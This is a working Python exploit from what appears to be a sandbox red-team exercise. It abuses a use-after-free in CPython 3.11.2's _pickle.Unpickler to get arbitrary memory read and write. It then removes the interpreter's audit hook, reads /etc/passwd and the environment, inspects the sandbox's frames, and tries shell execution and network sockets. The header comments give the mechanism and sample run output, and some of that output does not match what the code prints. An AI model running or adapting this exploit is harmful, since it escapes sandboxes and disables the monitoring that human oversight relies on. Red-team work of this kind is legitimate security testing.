# family: wall (memory: _pickle.Unpickler re-entered from BUILD frees the instance it builds; gh-143638 class, not fixed in 3.11)   goal: env   interpreter: /usr/bin/python3
# The thirteenth wall red team's ok_06. The program imports nothing it may not: the
# preload had loaded pickle (logging's Logger.__reduce__ imports it lazily; asyncio
# names concurrent.futures.process, whose import loads multiprocessing and pickle)
# and sys.modules handed _pickle out. The wall: pickle and _pickle are never
# preloaded, nor is any module whose import loads one never preloaded, so nothing
# hands the unpickler out.
# ok_06: NEW MEMORY-BUG FAMILY, WITH THE HOOK IN PLACE: _pickle.Unpickler re-entered from
#        inside BUILD. load_build() holds the instance under construction borrowed from
#        the unpickler's stack; a key of the instance's __dict__ runs code in the
#        __setstate__ lookup, calls the same unpickler's load(), whose Pdata_clear frees the
#        instance; a fake bytearray refills its block and receives itself in __getattribute__
# |
# Family: memory safety of CPython 3.11.2, Modules/_pickle.c, not in wall11/wall12's lists
#   and not touched by any guard of the wall (grep: no pickle in entrypoint.py/wall.py).
#   Upstream: the same root cause is gh-143638 (BUILD, re-entrant __setitem__ -> nested
#   load() -> Pdata_clear) and gh-143639 (load_setitem, re-entrant key __hash__), both
#   closed for 3.13+ in 2026; 3.11.2 has neither fix. Every opcode handler that keeps
#   a stack item borrowed across program code is a site (BUILD, SETITEM(S), APPEND(S),
#   ADDITEMS, REDUCE...).
# Mechanism: an Unpickler subclass whose find_class returns mk; the pickle
#   "c__main__\nmk\n)R}bN." builds inst = mk() (a V with __slots__ ("__dict__", 5 more):
#   managed-dict pre-header 16 + GC 16 + object 56 = a 96-byte block), held only by the
#   stack, then BUILD with state {}. load_build: inst = stack top (borrowed);
#   _PyObject_LookupAttr(inst, "__setstate__") looks in inst.__dict__, whose key K (a str
#   subclass hashing like "__setstate__") runs K.__eq__: u.load() (Pdata_clear: inst
#   freed; it reads the trailing "N." and returns None), then a spray of 32
#   bytearray(FAKE) (88 bytes: 32 zero bytes, then a PyByteArrayObject of type BA, size
#   2**62, start NULL) retakes the block. __eq__ says False, no __setstate__, and
#   load_build calls PyObject_GetAttr(inst, "__dict__") on the fake: BA.__getattribute__
#   receives it (a bytearray over all memory) and returns {}. The outer load then ends
#   with EOFError, caught. No import (the preload loaded _pickle; sys.modules), no
#   audit event on the way: the hook is then emptied as in round 12 (interp->audit_hooks
#   ob_size = 0), 5 of 5 runs.
# Goals reached past the hook: audit hook removed; /etc/passwd read; the environment;
#   frames and globals of the entrypoint. Stopped by the kernel half (printed):
#   os.system('id') (fork EPERM -> 32512), AF_INET socket (EPERM), ctypes (not tried:
#   dlopen needs PROT_EXEC). With ok_01..05's payloads instead, this primitive reaches
#   their goals too (they only need `mem`).
# Plain python3: works (the image's 3.11.2, `import pickle` added since nothing preloads
#   it there): the same capture, then os.system('id') printed uid=10001(sandbox) ...
#
# sb-run output (export SAFE_EXEC_IMAGE=safe-exec-sandbox:r13; build/sb-run --full FILE), 5 of 5 runs:
#   status: ok   exit_code: 0   
#   duration 74 ms, cpu 34 ms, memory peak 23616 KiB, fresh container
#   --- stdout (686 bytes)
#   outer load: EOFError Ran out of input
#   BA of 0x4000000000000000 bytes at address 0
#   interp+3552: the interpreter's audit hooks: [function b'hook']
#   audit hook list emptied
#   /etc/passwd: root:x:0:0:root:/root:/bin/bash
#   environment: b'PATH=/usr/local/bin:/usr/bin:/bin HOSTNAME=7443c0c0c67e LANG=C.UTF-8 HOME=/home/sandbox '
#   frame: run_user_code | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: runner | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: main | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: <module> | globals: None False
#   os.system('id') -> 32512 (fork/exec: EPERM from the kernel half)
#   AF_INET socket -> [Errno 1] Operation not permitted
#   --- stderr (0 bytes)
#
import sys
import asyncio   # loads socket and importlib for the payload; _pickle is already loaded (preload)
_pickle = sys.modules.get("_pickle") or __import__("_pickle")  # plain python3 imports it
io = sys.modules["io"]
keep = []
W = lambda v: v.to_bytes(8, "little")
class BA(bytearray):
    def __getattribute__(self, name):
        if name == "__dict__":
            keep.append(self)                 # self: the fake, a BA over all memory
            return {}
        return bytearray.__getattribute__(self, name)
# inst's block (3.11): managed-dict pre-header (16) + GC head (16) + object (16 + 5 slots)
# = 88 -> the 96-byte class; the fake bytearray object starts at +32
FAKE = (W(0) * 4 + W(1 << 40) + W(id(BA)) + W(1 << 62) + W(1 << 62)
        + W(0) + W(0) + W(1))
class V:                                       # inst (see FAKE)
    __slots__ = ("__dict__", "a", "b", "c", "d", "e")
class K(str):                                  # a key of inst.__dict__ that runs code in a lookup
    def __hash__(self):
        return hash("__setstate__")
    def __eq__(self, other):
        if other == "__setstate__" and not fired:
            fired.append(1)
            u.load()                           # re-entrant load(): Pdata_clear frees inst
            for i in range(32):
                keep.append(bytearray(FAKE))   # inst's block taken back
        return False
fired = []
def mk():
    v = V()
    v.__dict__[K("k")] = 1
    return v
class U(_pickle.Unpickler):
    def find_class(self, module, name):
        return mk
# GLOBAL __main__.mk, (), REDUCE -> inst on the stack (its only reference); {} BUILD ->
# load_build: inst borrowed from the stack, __setstate__ looked up in inst.__dict__;
# then "N." for the inner load
data = b"c__main__\nmk\n)R}bN."
u = U(io.BytesIO(data))
try:
    u.load()
except Exception as e:
    print("outer load:", type(e).__name__, e)
mem = [k for k in keep if type(k) is BA][0]
os = sys.modules["os"]
print(type(mem).__name__, "of", hex(len(mem)), "bytes at address 0", flush=True)
rd = lambda a: int.from_bytes(mem[a:a + 8], "little")
# image's /usr/bin/python3.11 (3.11.2): &_PyRuntime - &PyType_Type, main interpreter,
# audit_hooks (measured for wall7 ok_05 with ctypes outside the sandbox)
OFF_RT, OFF_INTERP, OFF_HOOKS = 1060224, 58936, (3552, 3880)
interp = id(type) + OFF_RT + OFF_INTERP
for off in OFF_HOOKS:
    lst = rd(interp + off)
    if not lst or rd(lst + 8) != id(list) or rd(lst + 16) != 1:
        continue
    fn = rd(rd(lst + 24))
    if rd(fn + 8) != id(type(rd)):
        continue
    name = rd(fn + 32)                                      # func_name
    text = bytes(mem[name + 48:name + 48 + rd(name + 16)])  # compact ASCII str
    print("interp+%d: the interpreter's audit hooks: [function %r]" % (off, text))
    if text == b"hook":
        mem[lst + 16:lst + 24] = bytes(8)                   # ob_size = 0: no hook
        print("audit hook list emptied", flush=True)
# past the hook, what the kernel half still lets through and what it stops
# the environment, from memory (the file half stops /proc/self/environ and /etc/passwd)
print("os.environ:", sorted(sys.modules["os"].environ))
for path in ("/etc/passwd", "/proc/self/environ"):
    try:
        print(path, open(path, "rb").read(60))
    except OSError as e:
        print(path, "->", e)
f = sys._getframe(0)
while f.f_back is not None:
    f = f.f_back
    print("frame:", f.f_code.co_name, "| globals:", f.f_globals.get("__file__"), "WALL_EXIT" in f.f_globals)
print("os.system('id') ->", os.system("id"), "(fork/exec: EPERM from the kernel half)")
socket = sys.modules["socket"]
try:
    socket.socket(socket.AF_INET, socket.SOCK_STREAM)
except OSError as e:
    print("AF_INET socket ->", e)
sys.stdout.flush()
os._exit(0)
